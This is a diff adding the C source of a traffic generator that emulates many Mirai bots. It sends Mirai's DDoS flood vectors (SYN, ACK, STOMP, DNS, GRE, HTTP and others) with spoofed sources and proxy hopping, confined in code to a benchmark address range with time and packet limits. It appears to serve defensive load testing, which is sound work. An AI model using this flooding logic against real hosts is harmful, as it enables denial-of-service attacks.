@@ -1,0 +1,1129 @@
+// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
+/*
+ * xpro-bot: many Mirai bots in one process, one source address each, with
+ * Mirai's vectors as they show on the wire (docs/xpro-bot.md,
+ * MIRAI-VECTORS.md). Testbed only: every address inside 198.18.0.0/15,
+ * never in the initial network namespace, never where a route leaves the
+ * range (traffic/safety.h). Every send loop stops by itself at --duration
+ * or --count, whichever comes first.
+ */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <getopt.h>
+#include <limits.h>
+#include <net/if.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/resource.h>
+#include <time.h>
+#include <unistd.h>
+#include <bpf/bpf.h>
+#include <bpf/libbpf.h>
+#include <linux/if_link.h>
+#include "bot.h"
+#include "fastpath.h"
+#include "safety.h"
+#include "botgen.skel.h"
+
+static volatile sig_atomic_t stop_flag;
+
+static void on_signal(int sig)
+{
+	(void)sig;
+	stop_flag = 1;
+}
+
+static void usage(FILE *f)
+{
+	fprintf(f,
+"usage: xpro-bot --vector V --target ADDR[/LEN][,ADDR[/LEN]...] --duration S [options]\n"
+"       xpro-bot --rx-count IFACE --duration S     (count what IFACE receives: XDP_DROP)\n"
+"\n"
+"Many Mirai bots in one process, one source address each, sending Mirai's attack\n"
+"vectors as they show on the wire (docs/xpro-bot.md). Testbed only: every address\n"
+"must lie in " XPRO_TESTBED_STR "; refuses to run in the initial network namespace or where\n"
+"a main-table route leads outside " XPRO_TESTBED_STR ".\n"
+"\n"
+"Vectors (Mirai IDs):\n"
+"  udp (0)       raw UDP flood, 512 B random payload          [len rand tos ident ttl df sport dport source]\n"
+"  vse (1)       Valve Source Engine query, 25 B payload      [tos ident ttl df sport dport]\n"
+"  dns (2)       random-label queries to --resolver, --domain [tos ident ttl df sport dport domain dhid len]\n"
+"  syn (3)       SYN with MSS/SACK/TS/NOP/WS options, window 0 [tos ident ttl df sport dport urg ack psh rst syn fin seqnum acknum source]\n"
+"  ack (4)       ACK with 512 B random payload                 [len rand tos ident ttl df sport dport urg ack psh rst syn fin seqnum acknum source]\n"
+"  stomp (5)     ACK+PSH flood after a real TCP handshake      [len rand tos ident ttl df dport urg ack psh rst syn fin]\n"
+"  greip (6)     GRE + IPv4/UDP                                [len rand tos ident ttl df sport dport gcip source]\n"
+"  greeth (7)    GRE + Ethernet + IPv4/UDP                     [same as greip]\n"
+"  udpplain (9)  kernel UDP sockets, connected                 [len rand dport sport]\n"
+"  http (10)     HTTP GET flood on real TCP connections        [domain dport method postdata path conns]\n"
+"\n"
+"Bots, targets, bounds:\n"
+"  --vector V           one of the vectors above (name or Mirai ID)\n"
+"  --target LIST        ADDR or ADDR/LEN, comma-separated (max 16); LEN < 32: a random host\n"
+"                       base + (rand >> LEN) per packet, base NOT masked (Mirai): the whole\n"
+"                       reachable range must lie in " XPRO_TESTBED_STR ". dns ignores targets\n"
+"                       (each adds a stream to the resolver); optional for dns.\n"
+"  --sources CIDR|N     bot addresses, consecutive: CIDR (its hosts), or N from the host's\n"
+"                       first local range (ip route add local CIDR dev lo). Default 1.\n"
+"  --bots N             at most N bots of --sources CIDR\n"
+"  --duration S         required; 0 < S <= 3600\n"
+"  --count N            total packets (exactly N are sent and logged); http: requests\n"
+"  --rate PPS           per bot (default: as fast as possible, like Mirai)\n"
+"  --on MS --off MS     pulse: send MS on, MS off (both required together)\n"
+"  --seed N             same seed, same packets (default: from the clock; in the summary)\n"
+"\n"
+"Paths:\n"
+"  --mode tunnel|inline tunnel (default): IPv4/UDP from the bot's address to proxy:5683 + X-Pro\n"
+"                       header + the Mirai packet; inline: the Mirai packet, next hop the proxy\n"
+"  --proxy A[,A...]     proxies (tunnel: required; inline: next hops; default: the route)\n"
+"  --proxy-mode M       fixed (all to the first), spread (bot i to proxy i mod P),\n"
+"                       hop (bot i starts at i mod P, moves on every --hop N packets)\n"
+"  --hop N              packets per proxy in hop mode (default 100)\n"
+"  --tun-port P         tunnel UDP port (default 5683)\n"
+"  --fast[=xdp|packet]  xdp: BPF_F_TEST_XDP_LIVE_FRAMES (raw vectors but stomp);\n"
+"                       packet: AF_PACKET + sendmmsg only. Default path: AF_PACKET +\n"
+"                       sendmmsg too, packets built in userspace.\n"
+"  --resolver ADDR      dns: the resolver (a testbed host)\n"
+"\n"
+"Mirai options (defaults per vector as Mirai; 65535 = random where Mirai says so):\n"
+"  --len N --rand 0|1 --tos N --ident N --ttl N --df 0|1 --sport N --dport N\n"
+"  --domain D --dhid N --urg/--ack/--psh/--rst/--syn/--fin 0|1 --seqnum N --acknum N\n"
+"  --gcip 0|1 --source S --method M --postdata S --path P --conns N\n"
+"  --source: udp/greip/greeth parse it like Mirai's atoi (1.2.3.4 -> 1 -> 1.0.0.0; -1 random);\n"
+"  syn/ack like inet_addr (255.255.255.255 random). Random sources stay in " XPRO_TESTBED_STR ".\n"
+"\n"
+"Logs:\n"
+"  --log FILE           CSV ts,src,dst,class,packets,bytes per second and (src,dst); - = stdout\n"
+"  --summary FILE       JSON summary at exit; - = stdout\n"
+"  -q                   quiet\n");
+}
+
+/* ---- options ------------------------------------------------------------ */
+
+enum {
+	O_LEN = 1, O_RAND, O_TOS, O_IDENT, O_TTL, O_DF, O_SPORT, O_DPORT, O_DOMAIN, O_DHID,
+	O_URG, O_ACK, O_PSH, O_RST, O_SYN, O_FIN, O_SEQNUM, O_ACKNUM, O_GCIP, O_METHOD,
+	O_POSTDATA, O_PATH, O_CONNS, O_SOURCE,
+	/* ours */
+	O_VECTOR = 100, O_TARGET, O_DURATION, O_COUNT, O_RATE, O_ON, O_OFF, O_SEED, O_SOURCES,
+	O_BOTS, O_RESOLVER, O_PROXY, O_PMODE, O_HOP, O_MODE, O_TUNPORT, O_FAST, O_LOG, O_SUMMARY,
+	O_RXCOUNT,
+};
+
+#define B(x) (1u << (x))
+/* what Mirai's CNC (or, where the spec says so, the bot) accepts per vector */
+static const uint32_t allowed[11] = {
+	[VEC_UDP] = B(O_TOS) | B(O_IDENT) | B(O_TTL) | B(O_LEN) | B(O_RAND) | B(O_DF) | B(O_SPORT) | B(O_DPORT) | B(O_SOURCE),
+	[VEC_VSE] = B(O_TOS) | B(O_IDENT) | B(O_TTL) | B(O_DF) | B(O_SPORT) | B(O_DPORT),
+	[VEC_DNS] = B(O_TOS) | B(O_IDENT) | B(O_TTL) | B(O_DF) | B(O_SPORT) | B(O_DPORT) | B(O_DOMAIN) | B(O_DHID) | B(O_LEN),
+	[VEC_SYN] = B(O_TOS) | B(O_IDENT) | B(O_TTL) | B(O_DF) | B(O_SPORT) | B(O_DPORT) | B(O_URG) | B(O_ACK) | B(O_PSH) |
+		    B(O_RST) | B(O_SYN) | B(O_FIN) | B(O_SEQNUM) | B(O_ACKNUM) | B(O_SOURCE),
+	[VEC_ACK] = B(O_LEN) | B(O_RAND) | B(O_TOS) | B(O_IDENT) | B(O_TTL) | B(O_DF) | B(O_SPORT) | B(O_DPORT) | B(O_URG) |
+		    B(O_ACK) | B(O_PSH) | B(O_RST) | B(O_SYN) | B(O_FIN) | B(O_SEQNUM) | B(O_ACKNUM) | B(O_SOURCE),
+	[VEC_STOMP] = B(O_LEN) | B(O_RAND) | B(O_TOS) | B(O_IDENT) | B(O_TTL) | B(O_DF) | B(O_DPORT) | B(O_URG) | B(O_ACK) |
+		      B(O_PSH) | B(O_RST) | B(O_SYN) | B(O_FIN),
+	[VEC_GREIP] = B(O_LEN) | B(O_RAND) | B(O_TOS) | B(O_IDENT) | B(O_TTL) | B(O_DF) | B(O_SPORT) | B(O_DPORT) | B(O_GCIP) | B(O_SOURCE),
+	[VEC_GREETH] = B(O_LEN) | B(O_RAND) | B(O_TOS) | B(O_IDENT) | B(O_TTL) | B(O_DF) | B(O_SPORT) | B(O_DPORT) | B(O_GCIP) | B(O_SOURCE),
+	[VEC_UDPPLAIN] = B(O_LEN) | B(O_RAND) | B(O_DPORT) | B(O_SPORT),
+	[VEC_HTTP] = B(O_DOMAIN) | B(O_DPORT) | B(O_METHOD) | B(O_POSTDATA) | B(O_PATH) | B(O_CONNS),
+};
+
+static const struct option longopts[] = {
+	{ "len", 1, 0, O_LEN }, { "rand", 1, 0, O_RAND }, { "tos", 1, 0, O_TOS }, { "ident", 1, 0, O_IDENT },
+	{ "ttl", 1, 0, O_TTL }, { "df", 1, 0, O_DF }, { "sport", 1, 0, O_SPORT }, { "dport", 1, 0, O_DPORT },
+	{ "domain", 1, 0, O_DOMAIN }, { "dhid", 1, 0, O_DHID }, { "urg", 1, 0, O_URG }, { "ack", 1, 0, O_ACK },
+	{ "psh", 1, 0, O_PSH }, { "rst", 1, 0, O_RST }, { "syn", 1, 0, O_SYN }, { "fin", 1, 0, O_FIN },
+	{ "seqnum", 1, 0, O_SEQNUM }, { "acknum", 1, 0, O_ACKNUM }, { "gcip", 1, 0, O_GCIP },
+	{ "method", 1, 0, O_METHOD }, { "postdata", 1, 0, O_POSTDATA }, { "path", 1, 0, O_PATH },
+	{ "conns", 1, 0, O_CONNS }, { "source", 1, 0, O_SOURCE },
+	{ "vector", 1, 0, O_VECTOR }, { "target", 1, 0, O_TARGET }, { "duration", 1, 0, O_DURATION },
+	{ "count", 1, 0, O_COUNT }, { "rate", 1, 0, O_RATE }, { "on", 1, 0, O_ON }, { "off", 1, 0, O_OFF },
+	{ "seed", 1, 0, O_SEED }, { "sources", 1, 0, O_SOURCES }, { "bots", 1, 0, O_BOTS },
+	{ "resolver", 1, 0, O_RESOLVER }, { "proxy", 1, 0, O_PROXY }, { "proxy-mode", 1, 0, O_PMODE },
+	{ "hop", 1, 0, O_HOP }, { "mode", 1, 0, O_MODE }, { "tun-port", 1, 0, O_TUNPORT },
+	{ "fast", 2, 0, O_FAST }, { "log", 1, 0, O_LOG }, { "summary", 1, 0, O_SUMMARY },
+	{ "rx-count", 1, 0, O_RXCOUNT }, { "help", 0, 0, 'h' }, { 0 },
+};
+
+static int num(const char *what, const char *s, unsigned long long max, unsigned long long *v)
+{
+	char *e;
+
+	errno = 0;
+	*v = strtoull(s, &e, 10);
+	if (errno || e == s || *e || *v > max || s[0] == '-') {
+		fprintf(stderr, BOT_TOOL ": %s '%s': not a number in 0..%llu\n", what, s, max);
+		return -EINVAL;
+	}
+	return 0;
+}
+
+static int ipv4(const char *what, const char *s, uint32_t *a)
+{
+	struct in_addr in;
+
+	if (inet_pton(AF_INET, s, &in) != 1) {
+		fprintf(stderr, BOT_TOOL ": %s '%s': not an IPv4 address\n", what, s);
+		return -EINVAL;
+	}
+	*a = in.s_addr;
+	return 0;
+}
+
+static const char *ntoa(uint32_t a, char *buf)
+{
+	inet_ntop(AF_INET, &a, buf, INET_ADDRSTRLEN);
+	return buf;
+}
+
+/* Mirai's util_atoi (base 10, stops at the first non-digit) */
+static uint32_t mirai_atoi(const char *s)
+{
+	long long v = 0;
+	int neg = 0;
+
+	while (*s == ' ' || *s == '\t')
+		s++;
+	if (*s == '-') {
+		neg = 1;
+		s++;
+	}
+	while (*s >= '0' && *s <= '9') {
+		v = v * 10 + (*s - '0');
+		if (v > 0xffffffffll)
+			v &= 0xffffffffll;
+		s++;
+	}
+	return (uint32_t)(neg ? -v : v);
+}
+
+/* --source as the vector's parser reads it; wire = the 4 bytes Mirai puts in saddr */
+static int parse_source(struct bot *b, const char *s)
+{
+	char a[INET_ADDRSTRLEN];
+	uint32_t wire;
+
+	if (b->o.vec == VEC_SYN || b->o.vec == VEC_ACK) {
+		wire = inet_addr(s); /* unparsable or 255.255.255.255: random */
+	} else {
+		uint32_t v = mirai_atoi(s);
+
+		wire = v; /* the integer stored as is: little-endian bytes on the wire */
+	}
+	if (wire == 0xffffffffu) {
+		b->o.src_mode = VEC_SRC_RANDOM;
+		return 0;
+	}
+	if (!xpro_in_testbed(wire)) {
+		fprintf(stderr, BOT_TOOL ": refusing source %s (Mirai's %s parses '%s' as %s): outside the testbed range %s\n",
+			ntoa(wire, a), vec_name(b->o.vec), s, a, XPRO_TESTBED_STR);
+		return -EINVAL;
+	}
+	b->o.src_mode = VEC_SRC_FIXED;
+	b->o.src_addr = wire;
+	return 0;
+}
+
+static int parse_targets(struct bot *b, char *list)
+{
+	char *save = NULL, *t;
+
+	for (t = strtok_r(list, ",", &save); t; t = strtok_r(NULL, ",", &save)) {
+		char *slash = strchr(t, '/'), a[INET_ADDRSTRLEN];
+		unsigned long long len = 32;
+		struct vec_target *v;
+		uint64_t first, last;
+
+		if (b->ntgt == BOT_MAX_TARGETS) {
+			fprintf(stderr, BOT_TOOL ": --target: at most %d targets\n", BOT_MAX_TARGETS);
+			return -E2BIG;
+		}
+		v = &b->tgt[b->ntgt];
+		if (slash) {
+			*slash = 0;
+			/* Mirai lets /33../255 through as one host */
+			if (num("--target length", slash + 1, 255, &len))
+				return -EINVAL;
+		}
+		if (ipv4("--target", t, &v->addr))
+			return -EINVAL;
+		v->netmask = (uint32_t)len;
+		/* the whole reachable range: base (unmasked) .. base + 2^(32-len) - 1 */
+		first = ntohl(v->addr);
+		last = first + (len < 32 ? (1ull << (32 - len)) - 1 : 0);
+		if (!xpro_in_testbed(v->addr) || last > 0xffffffffull || !xpro_in_testbed(htonl((uint32_t)last))) {
+			fprintf(stderr, BOT_TOOL ": refusing target %s/%llu: Mirai reaches %s..", ntoa(v->addr, a), len, a);
+			fprintf(stderr, "%s (base + random >> %llu, base not masked): outside the testbed range %s\n",
+				last > 0xffffffffull ? "beyond 255.255.255.255" : ntoa(htonl((uint32_t)last), a), len,
+				XPRO_TESTBED_STR);
+			return -EINVAL;
+		}
+		b->ntgt++;
+	}
+	return 0;
+}
+
+static int parse_proxies(struct bot *b, char *list)
+{
+	char *save = NULL, *t;
+
+	for (t = strtok_r(list, ",", &save); t; t = strtok_r(NULL, ",", &save)) {
+		if (b->nprox == BOT_MAX_PROXIES) {
+			fprintf(stderr, BOT_TOOL ": --proxy: at most %d proxies\n", BOT_MAX_PROXIES);
+			return -E2BIG;
+		}
+		if (ipv4("--proxy", t, &b->prox[b->nprox]))
+			return -EINVAL;
+		if (xpro_check_dest(BOT_TOOL, b->prox[b->nprox]))
+			return -EINVAL;
+		b->nprox++;
+	}
+	return 0;
+}
+
+static int parse_sources(struct bot *b, const char *s, unsigned long long bots)
+{
+	char a[INET_ADDRSTRLEN];
+	uint32_t addr, base;
+	unsigned long long n = 0, len;
+	const char *slash = strchr(s, '/');
+
+	if (slash) {
+		char tmp[INET_ADDRSTRLEN];
+
+		snprintf(tmp, sizeof(tmp), "%.*s", (int)(slash - s), s);
+		if (ipv4("--sources", tmp, &addr) || num("--sources length", slash + 1, 32, &len))
+			return -EINVAL;
+	} else {
+		uint32_t ra[16];
+		int rl[16], k = 0, nr;
+
+		if (num("--sources", s, BOT_MAX_BOTS, &n) || !n) {
+			fprintf(stderr, BOT_TOOL ": --sources '%s': a CIDR or a count 1..%d\n", s, BOT_MAX_BOTS);
+			return -EINVAL;
+		}
+		nr = raw_local_ranges(ra, rl, 16);
+		for (k = 0; k < nr; k++)
+			if (xpro_prefix_in_testbed(ra[k], rl[k]))
+				break;
+		if (nr <= 0 || k == nr) {
+			fprintf(stderr, BOT_TOOL ": --sources %s: no local range inside %s on this host "
+				"(ip route add local CIDR dev lo)\n", s, XPRO_TESTBED_STR);
+			return -ENOENT;
+		}
+		addr = ra[k];
+		len = (unsigned long long)rl[k];
+	}
+	if (!xpro_prefix_in_testbed(addr, (int)len)) {
+		fprintf(stderr, BOT_TOOL ": refusing --sources %s: outside the testbed range %s\n", s, XPRO_TESTBED_STR);
+		return -EINVAL;
+	}
+	base = ntohl(addr) & (len ? ~0u << (32 - len) : 0);
+	if (len <= 30) {
+		b->src_base = base + 1; /* the range's hosts */
+		b->nbots = (1u << (32 - len)) - 2;
+	} else {
+		b->src_base = base;
+		b->nbots = 1u << (32 - len);
+	}
+	if (!slash && n < b->nbots)
+		b->nbots = (uint32_t)n;
+	if (!slash && n > b->nbots) {
+		fprintf(stderr, BOT_TOOL ": --sources %llu: the local range %s/%llu has only %u hosts\n", n,
+			ntoa(addr, a), len, b->nbots);
+		return -E2BIG;
+	}
+	if (bots && bots < b->nbots)
+		b->nbots = (uint32_t)bots;
+	if (b->nbots > BOT_MAX_BOTS)
+		b->nbots = BOT_MAX_BOTS;
+	return 0;
+}
+
+/* Each bot address must be local here (replies come back to it). */
+static int check_local(uint32_t a)
+{
+	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = a };
+	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), err = 0;
+
+	if (fd < 0)
+		return -errno;
+	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)))
+		err = -errno;
+	close(fd);
+	return err;
+}
+
+/* ---- pacing --------------------------------------------------------------- */
+
+uint64_t bot_budget(const struct bot *b, uint64_t now, uint64_t *wait_ns)
+{
+	uint64_t el = now - b->t0_ns, on_el = el;
+
+	*wait_ns = 0;
+	if (b->on_ms && b->off_ms) {
+		uint64_t on = b->on_ms * 1000000ull, cyc = on + b->off_ms * 1000000ull, ph = el % cyc;
+
+		on_el = (el / cyc) * on + (ph < on ? ph : on);
+		if (ph >= on) {
+			*wait_ns = cyc - ph;
+			if (!b->rate)
+				return 0;
+		}
+	}
+	if (!b->rate)
+		return UINT64_MAX;
+	{
+		double total = b->rate * b->nbots;
+		uint64_t allowed = (uint64_t)((double)on_el / 1e9 * total) + 1;
+
+		if (allowed <= b->sent && !*wait_ns) {
+			double gap = 1e9 / total;
+
+			*wait_ns = (uint64_t)gap;
+		}
+		return allowed;
+	}
+}
+
+uint32_t bot_proxy_of(const struct bot *b, uint32_t i, uint64_t k)
+{
+	if (b->nprox <= 1)
+		return 0;
+	if (b->pmode == PMODE_SPREAD)
+		return i % b->nprox;
+	if (b->pmode == PMODE_HOP)
+		return (uint32_t)((i + k / b->hop) % b->nprox);
+	return 0;
+}
+
+static void sleep_ns(uint64_t ns)
+{
+	struct timespec ts;
+
+	if (ns > 50000000ull)
+		ns = 50000000ull;
+	ts.tv_sec = 0;
+	ts.tv_nsec = (long)ns;
+	nanosleep(&ts, NULL);
+}
+
+/* ---- raw vectors: normal path (userspace builds, AF_PACKET sends) -------- */
+
+static int next_hops(struct bot *b)
+{
+	char a[INET_ADDRSTRLEN], g[INET_ADDRSTRLEN];
+	int ifindex = 0, err;
+	uint32_t gw, first = b->o.vec == VEC_DNS ? b->resolver : b->tgt[0].addr;
+
+	if (!b->nprox) {
+		/* inline, no proxy: the kernel's route to the (first) target */
+		err = raw_route(first, &ifindex, &gw);
+		if (err) {
+			fprintf(stderr, BOT_TOOL ": route to %s: %s\n", ntoa(first, a), strerror(-err));
+			return err;
+		}
+		b->prox[0] = gw ? gw : first;
+		b->nprox = 1;
+		if (gw && xpro_check_dest(BOT_TOOL, gw))
+			return -EINVAL;
+		err = raw_if_info(ifindex, &b->ifc);
+		if (!err)
+			err = raw_resolve(&b->ifc, b->prox[0], b->pmac[0]);
+		if (err)
+			fprintf(stderr, BOT_TOOL ": next hop %s: %s\n", ntoa(b->prox[0], a), strerror(-err));
+		return err;
+	}
+	for (uint32_t p = 0; p < b->nprox; p++) {
+		int ifi;
+		uint32_t nh;
+
+		err = raw_route(b->prox[p], &ifi, &gw);
+		if (err) {
+			fprintf(stderr, BOT_TOOL ": route to proxy %s: %s\n", ntoa(b->prox[p], a), strerror(-err));
+			return err;
+		}
+		if (gw && !b->tunnel) {
+			fprintf(stderr, BOT_TOOL ": proxy %s is not on-link (route via %s): inline mode needs it as next hop\n",
+				ntoa(b->prox[p], a), ntoa(gw, g));
+			return -EHOSTUNREACH;
+		}
+		if (ifindex && ifi != ifindex) {
+			fprintf(stderr, BOT_TOOL ": proxy %s is behind another interface than the first proxy\n",
+				ntoa(b->prox[p], a));
+			return -EINVAL;
+		}
+		if (!ifindex) {
+			ifindex = ifi;
+			err = raw_if_info(ifindex, &b->ifc);
+			if (err) {
+				fprintf(stderr, BOT_TOOL ": interface %d: %s\n", ifindex, strerror(-err));
+				return err;
+			}
+		}
+		nh = gw ? gw : b->prox[p];
+		err = raw_resolve(&b->ifc, nh, b->pmac[p]);
+		if (err) {
+			fprintf(stderr, BOT_TOOL ": no MAC for %s on %s: %s\n", ntoa(nh, a), b->ifc.name, strerror(-err));
+			return err;
+		}
+	}
+	return 0;
+}
+
+struct flows {
+	struct vec_flow *f;
+	uint32_t n;
+};
+
+static int flows_init(struct bot *b, struct flows *fl)
+{
+	fl->n = b->nbots * b->ntgt;
+	fl->f = calloc(fl->n, sizeof(*fl->f));
+	if (!fl->f)
+		return -ENOMEM;
+	for (uint32_t i = 0; i < b->nbots; i++)
+		for (uint32_t t = 0; t < b->ntgt; t++) {
+			struct vec_target tg = b->tgt[t];
+
+			if (b->o.vec == VEC_DNS) {
+				tg.addr = b->resolver;
+				tg.netmask = 32;
+			}
+			vec_flow_init(&b->o, &fl->f[i * b->ntgt + t], bot_addr(b, i), &tg, b->seed,
+				      (uint64_t)i * b->ntgt + t);
+		}
+	return 0;
+}
+
+static int run_raw(struct bot *b)
+{
+	struct raw_sock *s;
+	struct flows fl;
+	struct vec_rand orng;
+	size_t off = raw_inner_off(b->tunnel), len[RAW_BATCH];
+	uint64_t idx = 0, wait;
+	int err;
+
+	err = flows_init(b, &fl);
+	if (err)
+		return err;
+	s = malloc(sizeof(*s));
+	if (!s) {
+		free(fl.f);
+		return -ENOMEM;
+	}
+	err = raw_open(s, b->ifc.ifindex);
+	if (err) {
+		fprintf(stderr, BOT_TOOL ": AF_PACKET socket on %s: %s\n", b->ifc.name, strerror(-err));
+		goto out;
+	}
+	vec_rand_seed(&orng, b->seed, 0xFFFFFFFFFFull);
+	while (!stop_flag && b->sent < b->count) {
+		uint64_t now = raw_now_ns(), budget, n;
+		int64_t ts;
+		int done, serr;
+
+		if (now >= b->end_ns)
+			break;
+		budget = bot_budget(b, now, &wait);
+		if (budget <= b->sent) {
+			sleep_ns(wait ? wait : 10000);
+			continue;
+		}
+		n = budget - b->sent;
+		if (n > b->count - b->sent)
+			n = b->count - b->sent;
+		if (n > RAW_BATCH)
+			n = RAW_BATCH;
+		for (uint64_t j = 0; j < n; j++, idx++) {
+			uint32_t fi = (uint32_t)(idx % fl.n), bi = fi / b->ntgt, ti = fi % b->ntgt;
+			uint64_t k = (idx / fl.n) * b->ntgt + ti;
+			uint32_t p = bot_proxy_of(b, bi, k);
+			int l = vec_next(&b->o, &fl.f[fi], s->buf[j] + off, RAW_FRAME_MAX - off);
+			uint16_t oid = 0;
+
+			if (l < 0) {
+				err = l;
+				goto out;
+			}
+			if (b->tunnel) {
+				oid = (uint16_t)vec_rand_next(&orng);
+				if (!oid)
+					oid = 1;
+			}
+			len[j] = raw_wrap(s->buf[j], b->pmac[p], b->ifc.mac, b->tunnel, bot_addr(b, bi), b->prox[p],
+					  b->tun_port, oid, (size_t)l);
+		}
+		done = raw_send(s, len, (int)n, b->end_ns, &serr);
+		ts = botlog_now_s();
+		for (int j = 0; j < done; j++) {
+			const uint8_t *ip = s->buf[j] + off;
+			uint32_t sa, da;
+
+			memcpy(&sa, ip + 12, 4);
+			memcpy(&da, ip + 16, 4);
+			botlog_add(&b->log, ts, sa, da, 1, (uint64_t)(ip[2] << 8 | ip[3]));
+		}
+		b->sent += (uint64_t)done;
+		if (done < (int)n) {
+			b->errors += n - (uint64_t)done;
+			if (serr && serr != -ENOBUFS && serr != -EAGAIN) {
+				fprintf(stderr, BOT_TOOL ": send on %s: %s\n", b->ifc.name, strerror(-serr));
+				err = serr;
+				goto out;
+			}
+		}
+	}
+out:
+	raw_close(s);
+	free(s);
+	free(fl.f);
+	return err;
+}
+
+/* ---- raw vectors: fast path (XDP live frames) ----------------------------- */
+
+static void log_flow(void *arg, uint32_t src, uint32_t dst, uint64_t packets, uint64_t bytes)
+{
+	struct bot *b = arg;
+
+	botlog_add(&b->log, botlog_now_s(), src, dst, packets, bytes);
+}
+
+static int run_fast(struct bot *b)
+{
+	struct fast_cfg c = { 0 };
+	struct flows fl;
+	struct fast *f = NULL;
+	uint8_t frame[RAW_FRAME_MAX];
+	size_t off = raw_inner_off(b->tunnel);
+	uint64_t idx = 0, wait, *cnt = NULL, last_drain = 0;
+	uint32_t bytes;
+	int l, err, random_flows;
+
+	err = flows_init(b, &fl);
+	if (err)
+		return err;
+	/* the template: the first packet of bot 0 and target 0 */
+	l = vec_next(&b->o, &fl.f[0], frame + off, sizeof(frame) - off);
+	if (l < 0) {
+		err = l;
+		goto out;
+	}
+	bytes = (uint32_t)l;
+	c.frame_len = raw_wrap(frame, b->pmac[0], b->ifc.mac, b->tunnel, bot_addr(b, 0), b->prox[0], b->tun_port, 1,
+			       (size_t)l);
+	c.o = &b->o;
+	c.frame = frame;
+	c.tunnel = b->tunnel;
+	c.nbots = b->nbots;
+	c.src_base = b->src_base;
+	c.ntgt = b->ntgt;
+	for (uint32_t t = 0; t < b->ntgt; t++) {
+		c.tgt[t] = b->tgt[t];
+		if (b->o.vec == VEC_DNS) {
+			c.tgt[t].addr = b->resolver;
+			c.tgt[t].netmask = 32;
+		}
+	}
+	c.nprox = b->nprox;
+	c.pmode = b->pmode;
+	c.hop = b->hop;
+	memcpy(c.prox, b->prox, sizeof(c.prox));
+	memcpy(c.pmac, b->pmac, sizeof(c.pmac));
+	c.ifindex = b->ifc.ifindex;
+	c.seed = b->seed;
+	random_flows = b->o.src_mode == VEC_SRC_RANDOM;
+	for (uint32_t t = 0; t < b->ntgt; t++)
+		if (c.tgt[t].netmask < 32)
+			random_flows = 1;
+	c.log_flows = random_flows;
+	err = fast_open(&f, &c);
+	if (err) {
+		fprintf(stderr, BOT_TOOL ": fast path (XDP live frames) for %s: %s\n", vec_name(b->o.vec), strerror(-err));
+		goto out;
+	}
+	if (!random_flows) {
+		cnt = calloc(fl.n, sizeof(*cnt));
+		if (!cnt) {
+			err = -ENOMEM;
+			goto out;
+		}
+	}
+	while (!stop_flag && b->sent < b->count) {
+		uint64_t now = raw_now_ns(), budget, n, chunk;
+
+		if (now >= b->end_ns)
+			break;
+		budget = bot_budget(b, now, &wait);
+		if (budget <= b->sent) {
+			sleep_ns(wait ? wait : 10000);
+			continue;
+		}
+		n = budget - b->sent;
+		if (n > b->count - b->sent)
+			n = b->count - b->sent;
+		/* about 10 ms of work per call at a few Mpps */
+		chunk = 32768;
+		if (n > chunk)
+			n = chunk;
+		err = fast_run(f, (uint32_t)n);
+		if (err) {
+			fprintf(stderr, BOT_TOOL ": fast path run on %s: %s\n", b->ifc.name, strerror(-err));
+			goto out;
+		}
+		b->sent += n;
+		if (random_flows) {
+			if (raw_now_ns() - last_drain > 200000000ull || b->sent >= b->count) {
+				long long lost = fast_drain(f, log_flow, b);
+
+				if (lost > 0) /* counted, but not per flow: the map was full */
+					botlog_add(&b->log, botlog_now_s(), 0, 0, (uint64_t)lost, (uint64_t)lost * bytes);
+				last_drain = raw_now_ns();
+			}
+		} else {
+			int64_t ts = botlog_now_s();
+			uint64_t end = idx + n;
+
+			/* flows are a function of the index: bot (i / T) mod B, target i mod T */
+			if (n >= fl.n) {
+				uint64_t full = n / fl.n;
+
+				for (uint32_t x = 0; x < fl.n; x++)
+					cnt[x] += full;
+				idx += full * fl.n;
+			}
+			for (; idx < end; idx++)
+				cnt[idx % fl.n]++;
+			for (uint32_t x = 0; x < fl.n; x++) {
+				if (!cnt[x])
+					continue;
+				botlog_add(&b->log, ts, fl.f[x].local, b->o.vec == VEC_DNS ? b->resolver : b->tgt[x % b->ntgt].addr,
+					   cnt[x], cnt[x] * bytes);
+				cnt[x] = 0;
+			}
+		}
+	}
+	if (random_flows && f) {
+		long long lost = fast_drain(f, log_flow, b);
+
+		if (lost > 0)
+			botlog_add(&b->log, botlog_now_s(), 0, 0, (uint64_t)lost, (uint64_t)lost * bytes);
+	}
+out:
+	fast_close(f);
+	free(cnt);
+	free(fl.f);
+	return err;
+}
+
+/* ---- --rx-count: the receiving end of the bench ----------------------------- */
+
+static int rx_count(const char *ifname, double duration)
+{
+	struct botgen_bpf *s;
+	unsigned int ifindex = if_nametoindex(ifname);
+	int ncpu = libbpf_num_possible_cpus(), err;
+	uint64_t sum[2] = { 0, 0 }, *v;
+	struct timespec ts;
+
+	if (!ifindex) {
+		fprintf(stderr, BOT_TOOL ": --rx-count %s: no such interface\n", ifname);
+		return 1;
+	}
+	s = botgen_bpf__open_and_load();
+	if (!s) {
+		fprintf(stderr, BOT_TOOL ": load bpf/botgen.bpf.o: %s\n", strerror(errno));
+		return 1;
+	}
+	err = bpf_xdp_attach((int)ifindex, bpf_program__fd(s->progs.xdp_count), XDP_FLAGS_DRV_MODE, NULL);
+	if (err) {
+		fprintf(stderr, BOT_TOOL ": attach XDP counter to %s: %s\n", ifname, strerror(-err));
+		botgen_bpf__destroy(s);
+		return 1;
+	}
+	fprintf(stderr, BOT_TOOL ": counting on %s for %.1f s\n", ifname, duration);
+	ts.tv_sec = (time_t)duration;
+	ts.tv_nsec = (long)((duration - (double)ts.tv_sec) * 1e9);
+	while (nanosleep(&ts, &ts) && errno == EINTR && !stop_flag)
+		;
+	v = calloc((size_t)ncpu, sizeof(*v));
+	for (uint32_t k = 0; v && k < 2; k++)
+		if (!bpf_map_lookup_elem(bpf_map__fd(s->maps.rx_count), &k, v))
+			for (int c = 0; c < ncpu; c++)
+				sum[k] += v[c];
+	free(v);
+	bpf_xdp_detach((int)ifindex, XDP_FLAGS_DRV_MODE, NULL);
+	botgen_bpf__destroy(s);
+	printf("{\"packets\":%llu,\"bytes\":%llu,\"seconds\":%.3f}\n", (unsigned long long)sum[0],
+	       (unsigned long long)sum[1], duration);
+	return 0;
+}
+
